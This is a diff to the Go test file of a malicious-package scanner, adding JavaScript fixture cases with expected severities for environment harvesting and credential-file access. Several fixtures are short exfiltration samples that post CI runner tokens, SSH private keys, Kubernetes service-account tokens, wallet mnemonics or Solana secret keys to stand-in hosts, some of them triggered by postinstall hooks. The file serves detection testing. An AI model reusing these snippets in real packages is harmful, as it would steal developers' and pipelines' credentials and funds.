@@ -10,6 +10,11 @@ import (
 
 func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
+		// the runner's token sent through the file's request helper; the
+		// actions toolkit sends it to the service URL that comes with it
+		{"runner_token_sent", map[string]string{"index.js": `const https = require("https"); function req(u, o, b) { const r = https.request(u, o); r.end(b) }
+const loot = { rt: process.env.ACTIONS_RUNTIME_TOKEN, gh: process.env.GITHUB_TOKEN }; req("https://c.example.invalid/ingest", { method: "POST" }, Buffer.from(JSON.stringify(loot)).toString("base64"))`}, finding.SeverityHigh},
+		{"runner_token_toolkit", map[string]string{"index.js": `const token = process.env.ACTIONS_RUNTIME_TOKEN; const base = process.env.ACTIONS_RESULTS_URL; fetch(new URL("twirp/Artifact/Create", base), { method: "POST", headers: { Authorization: "Bearer " + token } })`}, finding.SeverityLow},
 		// the environment serialised for the tool's child process, or for a request
 		{"stringified_for_child", map[string]string{"run.js": `const c = require("child_process").spawn(process.execPath, ["w.js"]); c.stdin.end(JSON.stringify({ task, env: process.env }))`}, finding.SeverityMedium},
 		{"stringified_record", map[string]string{"a.js": `const info = JSON.stringify({ h: require("os").hostname(), env: process.env }); require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(info)`}, finding.SeverityCritical},
@@ -84,6 +89,11 @@ fetch(url, { headers: { Authorization: "bearer " + tok } })`}, finding.SeverityL
 func TestFileAccess(t *testing.T) {
 	rt.Check(t, FileAccess{}, []rt.Case{
 		{"ssh_key_read", map[string]string{"index.js": `const fs=require("fs");fs.readFileSync(require("path").join(require("os").homedir(), ".ssh/id_rsa"))`}, finding.SeverityHigh},
+		// a deploy tool hands the user's key to its SSH client; the same
+		// read next to a request, or at install, is not that
+		{"ssh_client_key", map[string]string{"index.js": `const { Client } = require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); new Client().connect({ host, privateKey: key })`}, finding.SeverityLow},
+		{"ssh_client_key_and_fetch", map[string]string{"index.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); fetch("https://c.example.invalid/k", {method: "POST", body: key})`}, finding.SeverityHigh},
+		{"ssh_client_key_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node k.js"}`), "k.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")`}, finding.SeverityHigh},
 		// public keys and host names are not secrets
 		{"authorized_keys_read", map[string]string{"cli.js": `const keys = require("fs").readFileSync(require("os").homedir() + "/.ssh/authorized_keys", "utf8")`}, finding.SeverityLow},
 		// other tools' logins and sessions
@@ -122,7 +132,16 @@ exports.inCluster = () => process.env.KUBERNETES_SERVICE_HOST && { ca: fs.readFi
 		// machine credentials: cloud metadata, in-cluster tokens, gh's hosts.yml
 		{"imds_credentials", map[string]string{"index.js": `require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityMedium},
 		{"gcp_metadata_read", map[string]string{"index.js": `const fs = require("fs"); fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {headers: {"Metadata-Flavor": "Google"}}); fs.readFileSync(x)`}, finding.SeverityHigh},
-		{"k8s_token", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityHigh},
+		// a workload-identity provider reads the pod's token and sends
+		// nothing itself; next to a request, or at install, it is high
+		{"k8s_token", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityMedium},
+		{"k8s_token_sent", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8"); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
+		// the SDK asks the metadata service and hands the token back
+		{"k8s_token_with_imds", map[string]string{"index.js": `const fs = require("fs"); exports.k8s = (p = "/var/run/secrets/kubernetes.io/serviceaccount/token") => ({ getToken: () => fs.promises.readFile(p, "utf8") });
+exports.azure = () => fetch(new URL("http://169.254.169.254/metadata/identity/oauth2/token").toString(), { headers: { Metadata: "true" } });
+exports.gcp = () => fetch(new URL("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/identity").toString())`}, finding.SeverityMedium},
+		{"k8s_token_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8"); require("./send")(t)`}, finding.SeverityHigh},
+		{"k8s_token_federated", map[string]string{"index.js": `const file = process.env.AZURE_FEDERATED_TOKEN_FILE || "/var/run/secrets/kubernetes.io/serviceaccount/token"; exports.token = () => require("fs").promises.readFile(file, "utf8")`}, finding.SeverityLow},
 		// the container-credentials half of the SDK's provider names its own variables
 		{"sdk_container_imds", map[string]string{"index.js": `const { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: rel } = process.env; require("http").get(rel ? "http://169.254.170.2" + rel : "http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
 		{"sdk_imds", map[string]string{"index.js": `if (process.env.AWS_EC2_METADATA_DISABLED !== "true") require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
@@ -142,6 +161,10 @@ exports.inCluster = () => process.env.KUBERNETES_SERVICE_HOST && { ca: fs.readFi
 const file = process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), ".aws", "credentials"); fs.readFileSync(file, "utf8")`}, finding.SeverityLow},
 		// a browser launcher looks for Chrome's profile roots
 		{"browser_launcher", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const roots = [path.join(local, "Google", "Chrome", "User Data"), path.join(local, "Google", "Chrome Beta", "User Data")]; roots.filter(r => fs.existsSync(r))`}, finding.SeverityMedium},
+		// a launcher looking for a running browser's debugging port
+		{"browser_launcher_port_check", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),net=require("net"); const dirs = [path.join(local, "Google", "Chrome", "User Data"), path.join(local, "Microsoft", "Edge", "User Data")];
+async function port(d) { const p = await fs.promises.readFile(path.join(d, "DevToolsActivePort"), "utf8"); return net.createConnection(+p, "127.0.0.1") }`}, finding.SeverityMedium},
+		{"browser_launcher_override", map[string]string{"index.js": `const path=require("path"); const dir = process.env.CHROME_USER_DATA_DIR || path.join(local, "Google", "Chrome", "User Data"); require("fs").existsSync(dir)`}, finding.SeverityLow},
 		{"npmrc_mention", map[string]string{"index.js": `const name = ".npmrc"`}, finding.SeverityLow},
 		// a config reader: the registry setting, nowhere to send it
 		{"npmrc_config_reader", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8"); module.exports = /registry=(.*)/.exec(rc)`}, finding.SeverityLow},
@@ -162,6 +185,10 @@ function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
 		// a wallet helper relaying what it is given through a sender whose
 		// host is kept in an array
 		{"wallet_phrase_relay", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); const h = [\"relay.example.invalid\"]; function _r(t) { require(\"https\").get(`https://${h[0]}/m?text=${encodeURIComponent(t)}`) }\nfunction fromMnemonic(phrase) { _r(\"mn:\" + phrase); return Wallet.fromPhrase(phrase) }"}, finding.SeverityCritical},
+		// an SDK authenticating to its service with the API secret of its
+		// configuration; the same name next to a wallet library is not that
+		{"api_secret_header", map[string]string{"index.js": `const WebSocket = require("ws"); exports.connect = (url, opts) => new WebSocket(url, { headers: { "X-SECRET": opts.SECRET_KEY } })`}, finding.SeverityNone},
+		{"api_secret_wallet", map[string]string{"index.js": `const { Keypair } = require("@solana/web3.js"); const k = Keypair.generate(); fetch("https://c.example.invalid/k", { method: "POST", body: k.SECRET_KEY })`}, finding.SeverityCritical},
 		// a cache key is no secret, wallet library or not
 		{"wallet_cache_key", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); function get(key) { return fetch(`https://api.example.com/cache/${key}`) }"}, finding.SeverityNone},
 		{"phrase_without_wallet", map[string]string{"index.js": "function t(phrase) { return fetch(`https://translate.example.com/?q=${phrase}`) }"}, finding.SeverityNone},
